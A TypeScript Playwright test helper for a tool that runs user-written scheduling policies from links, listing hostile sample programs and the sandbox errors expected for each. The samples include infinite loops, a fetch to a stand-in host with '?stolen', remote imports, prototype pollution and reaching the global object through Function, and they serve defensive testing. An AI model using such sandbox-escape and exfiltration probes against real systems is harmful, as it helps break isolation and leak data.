// Policies written by users, in links: valid and malicious ones.

import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, type Locator, type Page } from '@playwright/test';
import type { RunResult } from '../../web/scenario/generated/types.ts';
import { linkOf, short } from './scenario.ts';

const root = path.resolve(import.meta.dirname, '../..');

/** A shipped example policy. */
export function example(id: string): string {
  return readFileSync(path.join(root, `workloads/policies/${id}.ts`), 'utf8');
}

/** The link of the short scenario with a program as its policy. */
export function linkWith(source: string): string {
  return linkOf(short({ policy: { id: 'own', params: { source } } }));
}

/** The result of `coscope run --policy-file` for the short scenario and a program. */
export function runInNode(source: string): RunResult {
  const folder = mkdtempSync(path.join(tmpdir(), 'coscope-own-'));
  const [scenario, policy] = [path.join(folder, 'short.json'), path.join(folder, 'policy.ts')];
  writeFileSync(policy, source);
  writeFileSync(scenario, JSON.stringify(short()));
  const args = ['run', scenario, '--policy-file', policy, '--json'];
  const out = execFileSync(process.execPath, ['scripts/coscope.mjs', ...args], {
    cwd: root,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  return JSON.parse(out) as RunResult;
}

/**
 * A program that depends on everything that differs between two openings of the page: its URL, its callers and their
 * depth, and any clocks and locations available.
 */
const steeredBy = (more: string) => `
const seen: unknown[] = [];
function look() {
  const all = Function('return this')();
  const held: { stack?: string } = {};
  (Error as any).captureStackTrace?.(held);
  let thrown: any;
  try { (null as any).x; } catch (error) { thrown = error; }
  seen.push(
    ${more}new Error().stack, thrown.stack, held.stack, Math.random(), typeof all.Date, typeof all.Intl,
    typeof all.performance, typeof all.location, typeof all.navigator, typeof all.crypto, typeof all.process,
    typeof all.WeakRef, typeof (1).toLocaleString, typeof ''.localeCompare,
    String(Function('return arguments.callee.caller')()),
  );
}
const queue: number[] = [];
const decide = Function('act', 'return function decide(os) { return act(os, String(arguments.callee.caller)); }')(
  (os: OsView, caller: string) => {
    seen.length = 0;
    look();
    const text = seen.join() + caller;
    let sum = os.threads.length;
    for (let i = 0; i < text.length; i++) sum = (sum * 31 + text.charCodeAt(i)) % 65521;
    const runnable = os.threads.filter((t) => t.runnable).map((t) => t.id);
    return runnable.map((_, i) => runnable[(i + sum) % runnable.length]).slice(0, os.placement.length);
  },
);
export default decide;
`;

export const steered = steeredBy('');

/** Also depends on the wording of the browser's errors: the same in each opening, different in another browser. */
export const steeredByWords = steeredBy(
  'thrown.message, thrown.fileName, thrown.lineNumber, thrown.columnNumber, ',
);

/** Malicious programs, and the message shown for each. */
export const hostile: readonly { readonly does: string; readonly source: string; readonly reads: RegExp }[] =
  [
    {
      does: 'loops for ever',
      source: 'export default function decide() {\n  for (;;);\n}',
      reads: /policy own, cycle 0: it has not answered within 2 seconds/,
    },
    {
      does: 'loops before it is asked',
      source: 'while (true);\nexport default () => [0];',
      reads: /it has not answered within 2 seconds/,
    },
    {
      does: 'fetches',
      source: 'export default () => {\n  fetch("https://example.org/?stolen");\n  return [0];\n};',
      reads: /line 2: ReferenceError: fetch is not defined/,
    },
    {
      does: 'imports',
      source: 'import thing from "https://example.org/thing.js";\nexport default () => thing;',
      reads: /nothing can be imported here/,
    },
    {
      does: 'imports later',
      source: 'export default () => {\n  import("https://example.org/thing.js");\n  return [0];\n};',
      reads: /nothing can be imported here/,
    },
    {
      does: 'throws',
      source: 'export default () => {\n\n  throw new RangeError("out of ideas");\n};',
      reads: /policy own, cycle 0: line 3: RangeError: out of ideas/,
    },
    {
      does: 'pollutes prototypes',
      source: '\n({}).constructor.prototype.polluted = 1;\nexport default () => [0];',
      reads: /line 2: TypeError: Cannot add property polluted/,
    },
    {
      does: 'reaches for the global object through Function',
      source:
        'export default () => {\n  const all = Function("return this")();\n  all.postMessage("hello");\n  return [0];\n};',
      reads: /line 3: TypeError: all\.postMessage is not a function/,
    },
    {
      does: 'answers with far too much',
      source: 'export default () => ({ run: [], why: { rule: "x".repeat(5e6) } });',
      reads: /its answer has \d+ characters/,
    },
    {
      does: 'answers with what is no number',
      source: 'export default () => ({ place: [NaN] });',
      reads: /its answer has NaN at 0/,
    },
    {
      does: 'looks where it is',
      source: 'export default () => {\n  throw new Error(`[${new Error().stack}]`);\n};',
      reads: /line 2: Error: \[\]/,
    },
    {
      does: 'asks who calls it',
      source:
        'export default Function("throw new Error(String(arguments.callee.caller).slice(0, 40) + ` ${typeof Function.prototype.call}`)");',
      reads: /Error: null function/,
    },
    {
      does: 'looks at the clock',
      source: 'export default () => {\n  if (Date.now() > 0) return [0];\n};',
      reads: /line 2: ReferenceError: Date is not defined/,
    },
  ];

/** The editor's text. */
export function editor(page: Page): Locator {
  return page.getByRole('textbox', { name: /^Program of the policy/ });
}

/** Replaces the program in the editor. */
export async function write(page: Page, source: string): Promise<void> {
  await expect(editor(page)).toBeVisible();
  // The old text is deleted first, by the editor's own key: a browser that replaces coloured text keeps its colours as
  // styles, which violate the page's security policy.
  await editor(page).press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(source);
}

/** Opens the program that came with a link, as the page requests, and runs it. */
export async function letRun(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Read the program' }).click();
  await expect(editor(page)).toBeVisible();
  await page.getByRole('button', { name: /^Run/ }).click();
}
